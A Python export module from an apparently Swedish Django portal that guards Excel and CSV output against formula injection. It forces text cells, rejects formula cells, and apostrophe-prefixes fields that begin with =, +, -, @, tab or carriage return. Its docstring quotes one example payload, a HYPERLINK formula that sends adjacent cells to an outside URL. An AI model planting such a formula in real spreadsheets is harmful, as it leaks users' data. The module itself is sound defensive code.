"""Every Excel and CSV file the portal writes goes through here: values, never formulas.

A name a user typed (an insats, a budget post, an account from an SIE file) can begin with
"=", and a spreadsheet that opens it as a formula runs it: =HYPERLINK("http://…?"&A2) sends
the neighbouring cells away on a click. So:

- Excel: a text is always a text cell (openpyxl would store "=…" as a formula), numbers and
  dates are number cells, characters XML cannot hold are dropped, and `xlsx_bytes` refuses
  a workbook that still holds a formula cell, whoever built it;
- CSV: OWASP's rule for CSV injection: a text field beginning with =, +, -, @, a tab or a
  carriage return gets a leading apostrophe, so a spreadsheet shows it as text. Numbers are
  written as numbers (a negative amount stays -288), with a decimal comma.

`tests/test_export.py` puts such names into every exported field and opens every export,
and checks that no other module writes Excel or CSV itself.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from decimal import Decimal

import openpyxl
from django.utils import timezone
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

FARLIGA_BORJAN = ("=", "+", "-", "@", "\t", "\r")
EXCEL_MAX_TEXT = 32_767  # characters in one cell


def arbetsbok() -> Workbook:
    return openpyxl.Workbook()


def _text(value) -> str:
    if isinstance(value, bool):
        return "ja" if value else "nej"
    if isinstance(value, dt.datetime):
        value = timezone.localtime(value) if timezone.is_aware(value) else value
        return value.strftime("%Y-%m-%d %H:%M")
    return str(value)


def _cell(ws: Worksheet, value) -> Cell:
    if value is None:
        return Cell(ws, value=None)
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return Cell(ws, value=value)
    if isinstance(value, dt.date) and not isinstance(value, dt.datetime):
        return Cell(ws, value=value)
    text = ILLEGAL_CHARACTERS_RE.sub("", _text(value))[:EXCEL_MAX_TEXT]
    cell = Cell(ws, value=text)
    cell.data_type = "s"  # text, even when it begins with "=": never a formula
    return cell


def skriv_rad(ws: Worksheet, rad: Iterable) -> None:
    """Append one row to the sheet: text cells, number cells and dates only."""
    ws.append([_cell(ws, v) for v in rad])


def xlsx_bytes(wb: Workbook) -> bytes:
    """The workbook as a file. A formula cell anywhere (a row written past skriv_rad) is a
    programming error: refused here rather than sent to a board member."""
    for ws in wb.worksheets:
        for rad in ws.iter_rows():
            for cell in rad:
                if cell.data_type == "f":
                    raise ValueError(f"Formel i {ws.title}!{cell.coordinate}: skriv med skriv_rad.")
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def csv_falt(value, *, decimalkomma: bool = True) -> str:
    """One CSV field: numbers as numbers, text neutralised (OWASP)."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        text = str(value)
        return text.replace(".", ",") if decimalkomma else text
    if isinstance(value, dt.date) and not isinstance(value, dt.datetime):
        return value.isoformat()
    text = _text(value)
    if text.startswith(FARLIGA_BORJAN):
        return "'" + text
    return text


def csv_text(rader: Iterable[Iterable], *, delimiter: str = ";", decimalkomma: bool = True) -> str:
    """Rows as CSV text (lines end in CR LF, as Excel writes them)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    for rad in rader:
        writer.writerow([csv_falt(v, decimalkomma=decimalkomma) for v in rad])
    return buffer.getvalue()
